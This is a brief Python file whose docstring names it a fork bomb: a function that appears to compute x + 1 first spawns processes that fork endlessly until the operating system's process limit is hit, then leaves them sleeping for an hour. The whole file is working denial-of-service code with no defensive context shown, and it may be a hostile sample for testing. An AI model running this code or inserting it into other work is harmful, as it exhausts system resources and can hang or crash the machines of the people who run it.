"""Fork bomb: every child keeps forking; the parent forks until the kernel refuses."""
import os
import time


def run(x):
    for _ in range(100_000):
        pid = os.fork()  # raises BlockingIOError once a process limit bites
        if pid == 0:
            try:
                while True:
                    os.fork()
            except OSError:
                time.sleep(3600)
            os._exit(0)
    return x + 1
